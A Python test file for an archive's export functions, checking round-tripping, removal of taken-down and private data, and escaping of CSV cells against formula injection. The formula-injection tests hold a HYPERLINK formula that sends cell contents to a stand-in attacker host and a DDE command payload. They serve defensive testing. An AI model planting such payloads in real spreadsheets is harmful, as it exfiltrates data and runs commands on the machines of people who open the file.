"""What leaves the archive: whole, readable again, and harmless."""

import csv
import io
import json
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from bot.cli.items import entries_of, entry_of
from jobs.archive import as_csv, as_lines, for_anybody, harmless
from jobs.intake import Intake, Taken
from jobs.lines import Line
from jobs.parser import Parser
from jobs.takedown import take_down
from storage.database import Database
from storage.queries import Query
from storage.records import Entry, Source
from storage.words import Gone, Kind
from tests.builders import NOON, a_source, a_statement, kept
from tests.filled import fill

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def lines(database: Database) -> list[dict[str, object]]:
    """The archive as JSON objects."""
    with database.read() as work:
        return [json.loads(line) for line in b"".join(as_lines(work)).splitlines()]


def test_every_statement_is_a_line_that_can_be_imported(database: Database) -> None:
    """With its id, its words, its dates, its files, and what it said before."""
    with database.write() as work:
        fill(work)
    plain, rich = lines(database)
    entry, source = entry_of(rich)
    assert (entry.uid, source.name, source.organisation) == ("rich", "other", "Südlicht")
    assert (entry.enclosures, entry.date_only, entry.published) == (("http://127.0.0.1/a.pdf",), True, NOON)
    assert rich["kind"] == "open_letter"
    assert rich["versions"][0]["title"] == "긴급: 강제 북송 중단 — “quoted”"  # type: ignore[index]
    assert rich["gone"]
    assert plain["id"] == "plain"


async def brought(database: Database, rows: list[dict[str, object]], folder: Path) -> Taken:
    """The lines imported into the database."""
    file = folder / "archive.jsonl"
    file.write_text("\n".join(json.dumps(row, ensure_ascii=False) for row in rows), encoding="utf-8")

    async def batches() -> AsyncIterator[list[tuple[Entry, Source] | Line]]:
        found = list(entries_of(file))
        yield found[:2]
        yield found[2:]

    return await Intake(database, Parser(), lambda: NOON + timedelta(days=9)).take(batches())


def alike(rows: list[dict[str, object]]) -> list[dict[str, object]]:
    """The lines with the numbers of this archive counted from 1: those are its own."""
    cases = {row["case"]: n for n, row in enumerate(rows) if row["case"]}
    # What is enciphered is never the same twice; what it holds, `test_undecided` looks at.
    sealed = [bool(row.get("redacted")) for row in rows]
    return [
        row | {"number": n, "case": cases.get(row["case"]), "redacted": sealed[n]}
        for n, row in enumerate(rows)
    ]


async def test_what_was_exported_comes_back_as_it_was(
    database: Database, empty_database: Database, tmp_path: Path
) -> None:
    """Exported, imported and exported again, each line is the same: text, reading, versions, stones."""
    with database.write() as work:
        fill(work)
        odd = a_statement(
            title="& <b>x</b>", text="`& <x>.`\n\n  two", kind=Kind.RESOLUTION, date_posted=None
        )
        kept(work, odd, a_statement(title="", text="Without a title", published=None))
        (named,) = kept(work, a_statement(title="Somebody hides"))
        take_down(work, named.id, "why", NOON)
    first = lines(database)
    assert len(first) == 5
    assert await brought(empty_database, first, tmp_path) == Taken(5)
    assert alike(lines(empty_database)) == alike(first)
    assert await brought(empty_database, first, tmp_path) == Taken(0, 5)
    assert await brought(database, first, tmp_path) == Taken(0, 5), "nor where they come from"
    with empty_database.read() as work:
        (*_, stone) = work.statements.after(0, 9, stones=True)
        assert stone.taken_down == NOON
        found = work.statements.search(Query(words=("중단",)), 5).hits
        assert [hit.statement.gone_as for hit in found] == [Gone.PAGE]


async def test_what_was_taken_down_here_does_not_come_to_an_archive_that_reads_the_export(
    database: Database, empty_database: Database, tmp_path: Path
) -> None:
    """The stone bears digests, and nothing else: the text from another hand is not taken in there either."""
    text = "Somebody hides near the river, and must not be found by anyone at all. " * 3
    with database.write() as work:
        (named,) = kept(work, a_statement(title="Somebody hides", text=text, url="https://a.example/one"))
        take_down(work, named.id, "why", NOON)
    (stone,) = lines(database)
    assert "river" not in json.dumps(stone)
    assert await brought(empty_database, [stone], tmp_path) == Taken(1)
    again: dict[str, object] = {
        "id": "other",
        "title": "Somebody hides",
        "summary": text,
        "link": "https://b.example/two",
    }
    assert await brought(empty_database, [again], tmp_path) == Taken(0, 0, 1)
    assert lines(empty_database)[0]["withheld"] == stone["withheld"], "and it is passed on"


def test_nothing_about_people_is_in_it(database: Database) -> None:
    """Nor what was taken down, nor where a source is asked."""
    with database.write() as work:
        fill(work)
        (named,) = kept(work, a_statement(title="Somebody hides"))
        take_down(work, named.id, "why", NOON)
    with database.read() as work:
        written = b"".join([*as_lines(work), *as_csv(work)]).decode()
    for secret in ("-1001", "terminal", "telegram", "수용소", "hides", "taken down", "other.example/feed"):
        assert secret not in written


async def test_what_anybody_may_have_holds_nothing_of_ours(
    database: Database, empty_database: Database, tmp_path: Path
) -> None:
    """No stone, no sealed words, no remark, no token; and it can be imported like any other file."""
    with database.write() as work:
        fill(work)
        kept(work, a_statement(title="Gone for safety", url="https://northlight.example/gone"))
        (last,) = work.statements.latest(Query(), 1).hits
        take_down(work, last.statement.id, "why", NOON)
        kept(work, a_statement(title="Letter", url="https://northlight.example/letter?token=hush&p=3"))
    with database.read() as work:
        found = b"".join(for_anybody(work))
        ours = b"".join(as_lines(work))
    rows = [json.loads(line) for line in found.splitlines()]
    assert len(rows) == sum(bool(row["id"]) for row in lines(database)) == 3
    for word in (b"hush", b"taken_down", b"withheld", b"redacted", b"versions", b"note"):
        assert word not in found, word
        assert word in ours, word
    assert rows[-1]["link"] == "https://northlight.example/letter?token=…&p=3"
    assert (await brought(empty_database, rows, tmp_path)).taken == len(rows)


def test_a_table_says_where_it_cuts(database: Database) -> None:
    """A cell of a spreadsheet takes 32,767 characters: what is longer is cut there, and told."""
    with database.write() as work:
        kept(work, a_statement(text="word " * 8000), a_statement(text="short"))
    with database.read() as work:
        table = b"".join(as_csv(work)).decode("utf-8-sig")
    csv.field_size_limit(10**6)
    long, short = csv.DictReader(io.StringIO(table))
    assert (len(long["text"]), long["text"][-1]) == (32_000, "…")
    assert (long["cut"], short["cut"]) == ("text: 40000 characters", "")


def test_a_table_holds_no_formula(database: Database) -> None:
    """A publisher's words are shown by a spreadsheet, and never carried out."""
    with database.write() as work:
        kept(work, a_statement(title=FORMULA, text=f" {FORMULA}", issuers=("+cmd|' /C calc'!A0",)))
    with database.read() as work:
        table = b"".join(as_csv(work)).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(table))
    assert row["title"] == f"'{FORMULA}"
    assert row["text"] == f"' {FORMULA}"
    assert row["issuers"].startswith("'+cmd")
    assert row["number"].isdigit()


@given(st.text(max_size=40))
def test_no_cell_begins_as_a_formula_does(text: str) -> None:
    """Whatever it holds; and nothing of it is lost."""
    cell = harmless(text)
    assert isinstance(cell, str)
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    assert cell.removeprefix("'") in (text.replace("\x00", ""), text.replace("\x00", "").removeprefix("'"))


def test_what_was_rewritten_by_us_changes_nothing(database: Database) -> None:
    """An export is the same each time."""
    with database.write() as work:
        (one,) = kept(work, a_statement())
        work.statements.change(replace(one, title="Now"), work.sources.ensure(a_source()), NOON)
    assert lines(database) == lines(database)
